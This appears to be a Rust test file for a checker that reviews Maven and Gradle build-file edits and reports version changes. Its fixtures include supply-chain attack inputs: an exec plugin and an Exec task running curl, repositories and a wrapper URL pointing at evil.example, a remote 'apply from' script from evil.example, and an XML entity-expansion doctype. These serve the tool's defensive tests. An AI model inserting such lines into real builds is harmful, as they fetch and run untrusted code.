//! Maven, gradle.

use super::{edit, moves};

const POM: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion>
  <groupId>org.example</groupId>
  <artifactId>shop</artifactId>
  <version>1.0</version>
  <licenses><license><name>MIT</name></license></licenses>
  <properties>
    <jackson.version>2.15.0</jackson.version>
  </properties>
  <dependencies>
    <dependency>
      <groupId>com.fasterxml.jackson.core</groupId>
      <artifactId>jackson-databind</artifactId>
      <version>${jackson.version}</version>
    </dependency>
  </dependencies>
  <build>
    <plugins>
      <plugin>
        <artifactId>maven-compiler-plugin</artifactId>
        <version>3.11.0</version>
      </plugin>
    </plugins>
  </build>
</project>
"#;

const GRADLE: &str = r#"plugins {
    id("java")
    id("com.diffplug.spotless") version "6.0.0"
}
repositories {
    mavenCentral()
}
dependencies {
    implementation("com.google.guava:guava:31.1-jre")
    testImplementation 'junit:junit:4.13'
    runtimeOnly group: 'org.x', name: 'y', version: '1.0'
}
"#;

#[test]
fn properties_of_a_pom_are_put_in() {
    assert_eq!(
        moves("pom.xml", POM, &POM.replace("2.15.0", "2.16.1")),
        ["com.fasterxml.jackson.core:jackson-databind 2.15.0 → 2.16.1 (up)"]
    );
    assert_eq!(
        edit("pom.xml", POM, &POM.replace("<version>1.0<", "<version>1.1<")),
        ["dependency-change@pom.xml: Nothing that it pulls in changes; it says otherwise: version."]
    );
}

#[test]
fn a_pom_that_runs_programs_or_fetches_from_elsewhere() {
    let exec = POM.replace(
        "    </plugins>",
        "      <plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId>\
         <configuration><executable>curl</executable></configuration></plugin>\n    </plugins>",
    );
    let said = edit("pom.xml", POM, &exec);
    assert!(
        said.iter().any(|s| s.starts_with("install-script@pom.xml")),
        "{said:?}"
    );
    let repository = POM.replace(
        "  <build>",
        "  <repositories><repository><id>x</id><url>https://evil.example/m2</url></repository></repositories>\n  <build>",
    );
    assert!(edit("pom.xml", POM, &repository)[0].starts_with("dependency-source@pom.xml"));
}

#[test]
fn entities_and_document_types_are_refused() {
    let bomb = POM.replace(
        "<project",
        "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;\">]>\n<project",
    );
    assert!(edit("pom.xml", POM, &bomb)[0].starts_with("not-inspected@pom.xml"));
}

#[test]
fn build_scripts_are_read_as_far_as_they_spell_it_out() {
    assert_eq!(
        moves(
            "build.gradle.kts",
            GRADLE,
            &GRADLE.replace("31.1-jre", "32.0-jre").replace("4.13", "4.12")
        ),
        [
            "com.google.guava:guava 31.1-jre → 32.0-jre (up)",
            "junit:junit 4.13 → 4.12 (down)"
        ]
    );
    assert_eq!(
        moves(
            "build.gradle",
            GRADLE,
            &GRADLE.replace("6.0.0", "6.1.0").replace("'1.0'", "'2.0'")
        ),
        [
            "org.x:y 1.0 → 2.0 (up)",
            "plugin com.diffplug.spotless 6.0.0 → 6.1.0 (up)"
        ]
    );
    let table = [
        (
            "    mavenCentral()",
            "    mavenCentral()\n    maven { url = uri(\"https://evil.example/m2\") }",
            "dependency-source",
        ),
        (
            "    mavenCentral()",
            "    mavenCentral()\n    mavenLocal()",
            "dependency-source",
        ),
        (
            "plugins {",
            "apply from: 'https://evil.example/x.gradle'\nplugins {",
            "install-script",
        ),
        (
            "plugins {",
            "task x(type: Exec) { commandLine 'curl' }\nplugins {",
            "install-script",
        ),
        (
            "plugins {",
            "// apply from: 'https://evil.example/x.gradle'\nplugins {",
            "dependency-change",
        ),
    ];
    for (from, to, rule) in table {
        let said = edit("build.gradle", GRADLE, &GRADLE.replacen(from, to, 1));
        assert!(said[0].starts_with(rule), "{to}: {said:?}");
    }
}

#[test]
fn locks_catalogues_and_wrappers() {
    let lock = "# comment\ncom.google.guava:guava:31.1-jre=compileClasspath\nempty=annotationProcessor\n";
    assert_eq!(
        moves("gradle.lockfile", lock, &lock.replace("31.1", "32.0")),
        ["com.google.guava:guava 31.1-jre → 32.0-jre (up)"]
    );
    let catalogue = "[versions]\nguava = \"31.1-jre\"\n[libraries]\nguava = { module = \"com.google.guava:guava\", version.ref = \"guava\" }\nx = \"a:b:1.0\"\n[plugins]\ns = { id = \"com.s\", version = \"1\" }\n";
    assert_eq!(
        moves(
            "gradle/libs.versions.toml",
            catalogue,
            &catalogue.replace("31.1", "32.0").replace("a:b:1.0", "a:b:1.1")
        ),
        [
            "a:b 1.0 → 1.1 (up)",
            "com.google.guava:guava 31.1-jre → 32.0-jre (up)"
        ]
    );
    let wrapper = "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.4-bin.zip\ndistributionSha256Sum=aaaa\nvalidateDistributionUrl=true\n";
    let path = "gradle/wrapper/gradle-wrapper.properties";
    assert_eq!(
        moves(
            path,
            wrapper,
            &wrapper.replace("8.4", "8.5").replace("aaaa", "bbbb")
        ),
        ["the build program gradle-8.4-bin.zip → gradle-8.5-bin.zip (up)"]
    );
    assert!(edit(path, wrapper, &wrapper.replace("aaaa", "bbbb"))[0].starts_with("dependency-integrity@"));
    assert!(
        edit(
            path,
            wrapper,
            &wrapper.replace("services.gradle.org", "evil.example")
        )[0]
        .starts_with("dependency-source@")
    );
    assert!(
        edit(
            path,
            wrapper,
            &wrapper.replace("validateDistributionUrl=true", "")
        )[0]
        .starts_with("dependency-integrity@")
    );
}
